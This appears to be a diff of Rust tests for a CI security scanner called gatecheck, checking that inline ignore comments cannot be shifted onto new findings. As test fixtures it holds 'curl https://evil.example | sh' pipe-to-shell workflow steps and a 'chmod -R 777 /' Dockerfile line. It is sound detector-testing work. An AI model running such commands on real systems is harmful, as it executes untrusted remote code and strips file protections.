@@ -6,7 +6,8 @@ use std::fs;
 use crate::git::Repo;
 
 /// The rules of these tests, and gatecheck's own.
-const RULES: &str = "compose/privileged,docker/root-user,go/sum-entry-missing,gatecheck/*";
+const RULES: &str = "compose/privileged,docker/chmod-777,docker/root-user,go/sum-entry-missing,\
+     k8s/service-account-token,packages/download-and-run,gatecheck/*";
 
 /// What a scan says: the exit code, and `path:line rule status` for each finding; then standard error.
 fn scan(repo: &Repo, arguments: &[&str]) -> (Option<i32>, Vec<String>, String) {
@@ -153,7 +154,7 @@ fn an_ignore_counts_for_what_one_accepted_before() {
         &format!("{head}{}", web(ignore, "")),
         1,
         &[note, OPEN],
-        "this ignore of compose/privileged is not in main, so it does not count here",
+        "accepts a finding of compose/privileged that nothing accepted in main, so it does not count for it",
     );
     // One that was there counts, wherever its line is and whatever else changes.
     let old = format!("{head}{}", web(ignore, ""));
@@ -194,6 +195,53 @@ fn an_ignore_counts_for_what_one_accepted_before() {
     check(&main, "git mv compose.yaml b.compose.yaml", FROM, 1, &moved, "");
 }
 
+/// What has no name is what it says, so that an ignore cannot be moved to something else of its kind.
+#[test]
+fn an_ignore_counts_for_what_has_no_name_only_as_it_was() {
+    let dockerfile = |from: &str, run: &str| {
+        let ignore = "# gatecheck: ignore[docker/chmod-777] -- why";
+        format!(r"FROM {from}\nUSER 1000\n{ignore}\nRUN {run}\n")
+    };
+    let check_file = |path: &str, then: &str, now: &str, code: i32, findings: &[&str]| {
+        check(&format!("stage {path} '{then}'"), &format!("write {path} '{now}'"), FROM, code, findings, "");
+    };
+    let then = dockerfile("alpine:3", "chmod 777 /tmp/scratch");
+    let suppressed = "Dockerfile:4 docker/chmod-777 suppressed";
+    let moved = ["Dockerfile:3 gatecheck/gate-changed open", "Dockerfile:4 docker/chmod-777 open"];
+    let check_run = |now: &str, code: i32, findings: &[&str]| {
+        check_file("Dockerfile", &then, now, code, findings);
+    };
+    check_run(&dockerfile("alpine:4", "chmod  777 \\\\\n  /tmp/scratch"), 0, &[suppressed]);
+    check_run(&dockerfile("alpine:3", "chmod -R 777 / && echo evil"), 1, &moved);
+    check_run(&dockerfile("alpine:3", "chmod 777 /tmp/scratch && echo evil"), 1, &moved);
+    let stage = |from: &str| {
+        let ignore = "# gatecheck: ignore[docker/root-user] -- why";
+        format!(r"FROM {from}\n{ignore}\nUSER root\n")
+    };
+    let user = "Dockerfile:3 docker/root-user suppressed";
+    check_file("Dockerfile", &stage("alpine:3"), &stage("alpine:4"), 0, &[user]);
+    // A step of a workflow without a name, and the script of one with a name.
+    let workflow = |name: &str, run: &str| {
+        let steps = format!("      - {name}\n        # gatecheck: ignore[packages/download-and-run] -- why");
+        format!("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n{steps}\n        run: {run}\n")
+    };
+    let path = ".github/workflows/a.yml";
+    let suppressed = format!("{path}:8 packages/download-and-run suppressed");
+    let moved =
+        [format!("{path}:7 gatecheck/gate-changed open"), format!("{path}:8 packages/download-and-run open")];
+    for name in ["shell: bash", "name: a"] {
+        let check_step = |now: &str, code: i32, findings: &[&str]| {
+            check_file(path, &workflow(name, "curl https://a.example | sh"), now, code, findings);
+        };
+        check_step(&workflow(name, "curl  https://a.example |  sh"), 0, &[&suppressed]);
+        check_step(
+            &workflow(name, "curl https://evil.example | sh"),
+            1,
+            &moved.each_ref().map(String::as_str),
+        );
+    }
+}
+
 #[test]
 fn other_ways_of_ignoring_are_no_way_out() {
     let main = r#"stage Dockerfile "FROM alpine:3\nUSER 1000\n""#;
@@ -206,6 +254,26 @@ fn other_ways_of_ignoring_are_no_way_out() {
         FROM,
         0,
         &["Dockerfile:3 docker/root-user suppressed"],
+        "",
+    );
+    // The ignore that is pointed at is the one that accepts, not one that does not count.
+    let privileged = |without: &str, with: &str| {
+        format!(r"services:\n  web:\n    image: web\n{without}    privileged: true{with}\n")
+    };
+    let ignores = privileged(
+        r"    # gatecheck: ignore[compose/privileged]\n",
+        " # gatecheck: ignore[compose/privileged] -- why",
+    );
+    check(
+        &format!(r#"stage compose.yaml "{}""#, privileged("", "")),
+        &format!(r#"write compose.yaml "{ignores}""#),
+        FROM,
+        1,
+        &[
+            "compose.yaml:4 gatecheck/ignore-without-reason open",
+            "compose.yaml:5 compose/privileged open",
+            "compose.yaml:5 gatecheck/gate-changed open",
+        ],
         "",
     );
     // An ignore of a rule over several files.
@@ -222,6 +290,59 @@ fn other_ways_of_ignoring_are_no_way_out() {
         "{PRIVILEGED}; stage .gitignore 'compose.yaml'; stage .gitattributes '* export-ignore -diff'"
     );
     check(HARMLESS, &hidden, FROM, 1, &[OPEN], "");
+}
+
+/// Rules over many documents are asked about all that the branch has.
+#[test]
+fn an_ignore_of_a_rule_over_several_files_counts_for_what_it_accepted() {
+    let ignored = |until: &str, modules: &str, more: &str| {
+        let ignore = format!("// gatecheck: ignore[go/sum-entry-missing]{until} -- why");
+        format!(r"module example.com/web\n\n{ignore}\nrequire (\n{modules})\n{more}")
+    };
+    let check_module =
+        |main: &str, now: &str, arguments: &[&str], code: i32, findings: &[&str], said: &str| {
+            let main = format!("stage go.mod '{main}'; stage go.sum ''");
+            check(&main, &format!("write go.mod '{now}'"), arguments, code, findings, said);
+        };
+    let modules = r"example.com/a v1.0.0\nexample.com/b v1.0.0\n";
+    let old = ignored("", modules, "");
+    let suppressed = [5, 6].map(|line| format!("go.mod:{line} go/sum-entry-missing suppressed"));
+    let mut expected: Vec<&str> = suppressed.iter().map(String::as_str).collect();
+    check_module(&old, &ignored("", modules, "// c\n"), FROM, 0, &expected, "");
+    // One more than were accepted.
+    let more = ignored("", &format!(r"{modules}example.com/c v1.0.0\n"), "");
+    expected.insert(0, "go.mod:3 gatecheck/gate-changed open");
+    expected.push("go.mod:7 go/sum-entry-missing open");
+    let said = "accepts a finding of go/sum-entry-missing that nothing accepted in main";
+    check_module(&old, &more, FROM, 1, &expected, said);
+    // What had expired accepted nothing, nor did what the organisation forbids.
+    let open = ["gatecheck/gate-changed open", "go/sum-entry-missing open", "go/sum-entry-missing open"];
+    let open: Vec<String> =
+        [3, 5, 6].iter().zip(open).map(|(line, it)| format!("go.mod:{line} {it}")).collect();
+    let open: Vec<&str> = open.iter().map(String::as_str).collect();
+    let ends = ignored(" until=2999-01-01", modules, "");
+    let said =
+        "2 findings of go/sum-entry-missing that nothing accepted in main, so it does not count for them";
+    check_module(&ignored(" until=2020-01-01", modules, ""), &ends, FROM, 1, &open, said);
+    let org = tempfile::NamedTempFile::new().unwrap();
+    fs::write(org.path(), "org: {allow-ignore: [\"*\"], max-ignore-days: 1000000}\n").unwrap();
+    let org = ["--config-from-ref", "main", "--org-config", org.path().to_str().unwrap()];
+    check_module(&old, &ends, &org, 1, &open, said);
+    // Only what is scanned decides, also of the branch.
+    let main = format!("stage a/go.mod '{old}'; stage a/go.sum ''; {HARMLESS}");
+    let found: Vec<String> = suppressed.iter().map(|it| format!("a/{it}")).collect();
+    let found: Vec<&str> = found.iter().map(String::as_str).collect();
+    let now = ignored("", modules, "// c\n");
+    check(&main, &format!("write a/go.mod '{now}'"), &["--config-from-ref", "main", "a"], 0, &found, "");
+    // Ignores for other tools.
+    let pod = |image: &str| {
+        let skip = r#"annotations: {checkov.io/skip1: CKV_K8S_38=why}"#;
+        let head = format!(r"apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  {skip}\n");
+        format!(r"{head}spec:\n  containers:\n    - name: a\n      image: {image}\n")
+    };
+    let found = ["pod.yaml:6 k8s/service-account-token suppressed"];
+    let main = format!("stage pod.yaml '{}'", pod("a:1"));
+    check(&main, &format!("write pod.yaml '{}'", pod("a:2")), FROM, 0, &found, "");
 }
 
 #[test]
@@ -252,6 +373,9 @@ fn policies_are_those_of_the_branch() {
     check(&main, EMPTY, named, 1, &[denied, looser], "gate/p.rego was changed since main");
     check(&main, "git rm -r --quiet gate", named, 1, &[denied, looser], "gate/p.rego was deleted since main");
     check(&main, "rm -r gate; ln -s /tmp gate", named, 1, &[denied, looser], "");
+    let lost = r"printf '\377' > gate/p.rego";
+    check(&main, lost, named, 1, &[denied, looser], "gate/p.rego was changed since main");
+    check(&main, lost, named, 1, &[denied, looser], "the policies of its folder cannot be read");
     let absent = &["--config-from-ref", "main", "--policies", "gate"];
     check(HARMLESS, POLICY, absent, 2, &[], "the policies in gate of main cannot be read");
     // Those that the configuration names are read only where that is allowed.
@@ -313,6 +437,8 @@ fn files_that_are_named_are_those_of_the_branch() {
     );
     let org = ["--config-from-ref", "main", "--org-config", "ci/strict.yaml"];
     check(&main, &change, &org, 1, &[looser, OPEN], "");
+    let loose = "stage ci/strict.yaml 'fail-on: low\norg: {allow-baseline: true}'";
+    check(&main, loose, &org, 1, &[looser], "with the change, there may be a baseline");
     let org = ["--org-config", "ci/strict.yaml"];
     check(&main, "stage a.txt a", &org, 0, &[], "ci/strict.yaml lies in the repository");
     // What lies elsewhere is the user's own.
@@ -342,8 +468,17 @@ fn a_comparison_says_what_was_changed_and_lets_it_count() {
         since,
         0,
         &[note, SUPPRESSED],
-        "accepts compose/privileged, which nothing accepted in main",
+        "accepts a finding of compose/privileged that nothing accepted in main",
     );
+    // What cannot be read was there all the same.
+    let lost = format!(r"{HARMLESS}; stage gatecheck.yaml '\377'");
+    let said = "gatecheck.yaml was changed since main: what it was cannot be read";
+    check(&lost, "write gatecheck.yaml 'version: 1'", since, 0, &[CHANGED], said);
+    let lost = format!(r"{HARMLESS}; stage gate/p.rego '\377'");
+    let said = "gate/p.rego was changed since main: what the policies of its folder were cannot be read";
+    let policies = &["--diff-base", "main", "--policies", "gate", "--no-builtin"];
+    let changed = "gate/p.rego:1 gatecheck/gate-changed open";
+    check(&lost, EMPTY, policies, 0, &[changed], said);
     let both = &["--diff-base", "main", "--config-from-ref", "main"];
     check(HARMLESS, ignore, both, 1, &[note, OPEN], "");
     check(HARMLESS, &change, both, 1, &[OPEN, LOOSER], "");
